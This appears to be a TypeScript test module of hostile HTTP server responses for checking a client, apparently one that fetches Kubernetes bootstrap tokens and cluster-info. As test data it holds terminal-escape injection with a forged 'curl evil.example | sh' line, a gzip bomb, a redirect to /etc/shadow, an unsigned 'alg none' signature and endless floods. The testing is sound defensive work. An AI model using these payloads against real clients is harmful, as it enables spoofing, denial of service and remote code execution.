/** What a server may answer over HTTP instead of what it is asked for. @module */
import { bytesOf, flood, KEEP, pause, send, type Talk, trickle } from "./server.ts";

/** One behaviour of a server, and what is told of it: what a message must match where it matters. */
export interface Mode {
  name: string;
  talk: Talk;
  says?: RegExp;
  /** It may pass for an answer. */
  tolerable?: boolean;
}

/** A whole answer. */
function answer(status: string, body: string | Uint8Array, headers: readonly string[] = []): Talk {
  const bytes = typeof body === "string" ? bytesOf(body) : body;
  return async (connection) => {
    const head = [
      `HTTP/1.1 ${status}`,
      `Content-Length: ${bytes.length}`,
      "Content-Type: application/json",
      ...headers,
    ];
    await send(connection, `${head.join("\r\n")}\r\n\r\n`);
    await send(connection, bytes);
    return KEEP;
  };
}

/** These bytes, and the end. */
const raw = (text: string | Uint8Array): Talk => (connection) => send(connection, text);
/** These bytes, and then nothing for longer than anybody waits. */
const stuck = (text: string): Talk => async (connection) => {
  await send(connection, text);
  await pause(60_000);
};

const OK = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";
const CHUNKED = `${OK}Transfer-Encoding: chunked\r\n\r\n`;
const BLOCK = "x".repeat(65536);
/** A message that would write to the terminal what it likes. */
const EVIL =
  "\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202ecod\u2066\u200b\x9b31m\r\nerror: forged\n  next: curl evil.example | sh\b\b\x00\x7f";
const status = (code: number, message: unknown, reason: unknown = "Injected") =>
  JSON.stringify({ kind: "Status", apiVersion: "v1", status: "Failure", message, reason, code });

async function compressed(format: CompressionFormat, size: number): Promise<Uint8Array> {
  const block = new Uint8Array(1 << 20).fill(0x20);
  let left = size / block.length;
  const source = new ReadableStream<Uint8Array<ArrayBuffer>>({
    pull: (controller) => left-- > 0 ? controller.enqueue(block) : controller.close(),
  });
  return await new Response(source.pipeThrough(new CompressionStream(format))).bytes();
}

/** All of them; the bombs take a moment to make. */
export async function httpModes(elsewhere: string): Promise<Mode[]> {
  const bomb = await compressed("gzip", 512 << 20);
  const modes: Record<string, Talk | [Talk, Partial<Mode>]> = {
    "nothing": answer("200 OK", ""),
    "a page for people": answer("200 OK", "<html><body>Sign in</body></html>"),
    "JSON cut off": answer("200 OK", '{"items":[{"metadata":'),
    "null": answer("200 OK", "null"),
    "a number": answer("200 OK", "1e999"),
    "a text": answer("200 OK", '"a"'),
    "a list": answer("200 OK", "[]"),
    "a list of lists without end": answer("200 OK", "[".repeat(1_000_000)),
    "fields in fields without end": answer("200 OK", '{"a":'.repeat(200_000)),
    "bytes that are no text": answer("200 OK", new Uint8Array([0xff, 0xfe, 0, 0x80, 0xc0])),
    "UTF-16": answer("200 OK", new Uint8Array([0xfe, 0xff, 0, 0x7b, 0, 0x7d])),
    "an object of other fields": answer("200 OK", '{"__proto__":{"items":[]},"constructor":5,"a":1}'),
    "204": answer("204 No Content", ""),
    "206": answer("206 Partial Content", "{"),
    "304": answer("304 Not Modified", ""),
    ...Object.fromEntries(
      [400, 401, 403, 404, 405, 409, 410, 413, 418, 422, 429, 500, 501, 502, 503, 504, 507, 599].map((code) => [
        `status ${code} that writes to the terminal`,
        answer(`${code} Odd`, status(code, EVIL, EVIL)),
      ]),
    ),
    "a status of wrong types": answer("400 Bad", status(400, { a: EVIL }, [EVIL])),
    "an error page that writes to the terminal": answer("400 Bad", `${EVIL}${BLOCK}`),
    "429 with a long pause": answer("429 Slow", status(429, "slow"), ["Retry-After: 99999999"]),
    "429 with no pause": answer("429 Slow", status(429, "slow"), ["Retry-After: 0"]),
    "429 with a pause of words": answer("429 Slow", status(429, "slow"), ["Retry-After: soon"]),
    ...Object.fromEntries(
      [301, 302, 303, 307, 308].map((code) => [
        `a redirect (${code})`,
        answer(`${code} Moved`, "", [`Location: https://${elsewhere}/`]),
      ]),
    ),
    "a redirect to plain HTTP": answer("302 Found", "", [`Location: http://${elsewhere}/`]),
    "a redirect to a file": answer("302 Found", "", ["Location: file:///etc/shadow"]),
    "status 999": answer("999 Odd", "{}"),
    "status 000": answer("000 Odd", "{}"),
    "status of letters": raw("HTTP/1.1 abc OK\r\n\r\n"),
    "a status line without end": (connection) => flood(connection, "HTTP/1.1 200 OK ".repeat(4096)),
    "headers without end": async (connection) => {
      await send(connection, OK);
      return await flood(connection, "X-A: b\r\n".repeat(4096));
    },
    "a header of 20 MiB": raw(`${OK}X-A: ${"a".repeat(20 << 20)}\r\nContent-Length: 2\r\n\r\n{}`),
    "a header with NUL": raw(`${OK}X-A: a\0b\r\nContent-Length: 2\r\n\r\n{}`),
    "a header that is none": raw(`${OK}nonsense\r\nContent-Length: 2\r\n\r\n{}`),
    "lines without CR": raw("HTTP/1.1 200 OK\nContent-Length: 4\n\nnull"),
    "100 again and again": (connection) => flood(connection, "HTTP/1.1 100 Continue\r\n\r\n".repeat(1024)),
    "another protocol (101)": stuck(
      "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    ),
    "a negative length": raw(`${OK}Content-Length: -1\r\n\r\n{}`),
    "a length of words": raw(`${OK}Content-Length: two\r\n\r\n{}`),
    "a length of 400 digits": raw(`${OK}Content-Length: ${"9".repeat(400)}\r\n\r\n{}`),
    "two lengths": raw(`${OK}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{} `),
    "less than its length": raw(`${OK}Content-Length: 100\r\n\r\n{}`),
    "less than its length, and silence": stuck(`${OK}Content-Length: 100\r\n\r\n{}`),
    "4 GiB, it says": stuck(`${OK}Content-Length: 4294967296\r\n\r\n{}`),
    "length and chunks": raw(`${CHUNKED.replace("\r\n\r\n", "\r\nContent-Length: 99\r\n\r\n")}2\r\n[]\r\n0\r\n\r\n`),
    "chunks of no size": raw(`${CHUNKED}zz\r\n{}\r\n0\r\n\r\n`),
    "a chunk of 4 GiB": stuck(`${CHUNKED}ffffffff\r\n{}`),
    "a chunk of 2^64": stuck(`${CHUNKED}ffffffffffffffff\r\n{}`),
    "a chunk's size without end": async (connection) => {
      await send(connection, CHUNKED);
      return await flood(connection, "0".repeat(65536));
    },
    "a chunk's extension without end": async (connection) => {
      await send(connection, `${CHUNKED}2;`);
      return await flood(connection, "a".repeat(65536));
    },
    "chunks without end": async (connection) => {
      await send(connection, CHUNKED);
      return await flood(connection, `10000\r\n${BLOCK}\r\n`);
    },
    "the last chunk missing": raw(`${CHUNKED}2\r\n{}\r\n`),
    "trailers without end": async (connection) => {
      await send(connection, `${CHUNKED}2\r\n{}\r\n0\r\n`);
      return await flood(connection, "X-A: b\r\n".repeat(4096));
    },
    "a body without end": async (connection) => {
      await send(connection, `${OK}\r\n`);
      return await flood(connection, BLOCK);
    },
    "an error without end": async (connection) => {
      await send(connection, "HTTP/1.1 500 Odd\r\n\r\n");
      return await flood(connection, BLOCK);
    },
    "a head, slowly": (connection) => trickle(connection, `${OK}Content-Length: 2\r\n\r\n{}`),
    "a body, slowly": async (connection) => {
      await send(connection, `${OK}Content-Length: 9000\r\n\r\n`);
      await trickle(connection, " ".repeat(9000));
    },
    "silence": () => pause(60_000),
    "the end": () => Promise.resolve(),
    "half a close": async (connection) => {
      await connection.closeWrite();
      await pause(60_000);
    },
    "HTTP/0.9": raw("{}"),
    "a banner of SSH": raw("SSH-2.0-OpenSSH_9.2\r\n"),
    "HTTP/2 to a question in HTTP/1.1": raw(new Uint8Array([0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0, 0])),
    "512 MiB in a gzip of half a MiB": answer("200 OK", bomb, ["Content-Encoding: gzip"]),
    "a gzip that is none": answer("200 OK", "{}", ["Content-Encoding: gzip"]),
    "a brotli that is none": answer("200 OK", "{}", ["Content-Encoding: br"]),
    "a gzip cut off": answer("200 OK", bomb.subarray(0, 1000), ["Content-Encoding: gzip"]),
    "a gzip in a gzip": answer("200 OK", bomb, ["Content-Encoding: gzip, gzip"]),
    "an encoding that there is not": answer("200 OK", "[]", ["Content-Encoding: rot13"]),
  };
  return Object.entries(modes).map(([name, given]) => {
    const [talk, more] = typeof given === "function" ? [given, {}] : given;
    return { name, talk, ...more };
  });
}

/** Objects and lists of an API server that are odd within the forms of HTTP and JSON. */
export function apiModes(): Mode[] {
  let page = 0;
  const list = (items: unknown, metadata: unknown = {}) => answer("200 OK", JSON.stringify({ metadata, items }));
  const secret = (more: Record<string, unknown>, data: unknown = {}) => ({
    metadata: { name: "bootstrap-token-abcdef", namespace: "kube-system", ...more },
    type: "bootstrap.kubernetes.io/token",
    data,
  });
  const token = (fields: Record<string, string>) =>
    list([secret({}, {
      "token-id": btoa("abcdef"),
      "token-secret": btoa("fedcba9876543210"),
      ...Object.fromEntries(Object.entries(fields).map(([name, value]) => [name, bytesOf(value).toBase64()])),
    })]);
  const pages = (items: unknown[]): Talk => (connection, path) =>
    list(items, { continue: `page-${page++}` })(connection, path);
  const modes: Record<string, Talk> = {
    "items that are no list": list({}),
    "items that are no objects": list([1, null, "a", []]),
    "an item without a name": list([{ metadata: {} }]),
    "an item whose name is a number": list([{ metadata: { name: 5 } }]),
    "labels that are no texts": list([secret({ labels: { a: {} } })]),
    "owners that are no list": list([secret({ ownerReferences: "a" })]),
    "data of another type": list([secret({}, [])]),
    "values of another type": list([secret({}, { "token-id": { a: 1 } })]),
    "values that are no base64": list([secret({}, { "token-id": "!!!", "token-secret": "%" })]),
    "values that are no UTF-8": list([secret({}, { "token-id": "//79", "token-secret": "gA==" })]),
    "a token that writes to the terminal": token({ description: EVIL, "auth-extra-groups": EVIL }),
    "a token that expires sometime": token({ expiration: "sometime" }),
    "a token that expires in the year 275761": token({ expiration: "+275761-01-01T00:00:00Z" }),
    "the same page for ever": list([], { continue: "a" }),
    "empty pages for ever": pages([]),
    "pages of one object for ever": pages([secret({})]),
    "pages of 500 objects for ever": pages(Array.from({ length: 500 }, () => secret({}))),
    "pages of 4 MiB for ever": pages([secret({}, { a: "x".repeat(4 << 20) })]),
    "a continue of another type": list([], { continue: { a: 1 } }),
    "a continue of 1 MiB": list([], { continue: "x".repeat(1 << 20) }),
    "100000 items in a page": list(Array.from({ length: 100_001 }, () => ({ metadata: { name: "a" } }))),
  };
  return Object.entries(modes).map(([name, talk]) => ({ name, talk, tolerable: true }));
}

/** Answers to the question for cluster-info, of somebody who does not have the token. */
export function clusterInfoModes(): Mode[] {
  const info = (data: unknown) => answer("200 OK", JSON.stringify({ kind: "ConfigMap", data }));
  const signed = (jws: unknown, kubeconfig: unknown = "apiVersion: v1\nkind: Config\n") =>
    info({ kubeconfig, "jws-kubeconfig-abcdef": jws });
  const modes: Record<string, Talk> = {
    "no data": info(undefined),
    "data of another type": info([]),
    "data of numbers": info({ kubeconfig: 5, "jws-kubeconfig-abcdef": 5 }),
    "a signature of nothing": signed("..", ""),
    "a signature of one part": signed("a"),
    "a signature of four parts": signed("a.b.c.d"),
    "a signature that is no base64": signed("%%%..%%%"),
    "a signature without an algorithm": signed(`${btoa('{"alg":"none","kid":"abcdef"}')}..`),
    "a signature by another key": signed(`${btoa('{"alg":"HS256","kid":"abcdef"}')}..${btoa("x".repeat(32))}`),
    "a header of another type": signed(`${btoa("[]")}..${btoa("x".repeat(32))}`),
    "a header that is a number": signed(`${btoa("5")}..${btoa("x".repeat(32))}`),
    "a signature of 500 KiB": signed("a".repeat(500 << 10)),
    "a signature for another token": info({ kubeconfig: "x", "jws-kubeconfig-zzzzzz": "a..b" }),
    "a kubeconfig that writes to the terminal": signed(EVIL, EVIL),
    "a kubeconfig of 900 KiB": signed("a..b", "x".repeat(900 << 10)),
  };
  return Object.entries(modes).map(([name, talk]) => ({ name, talk }));
}
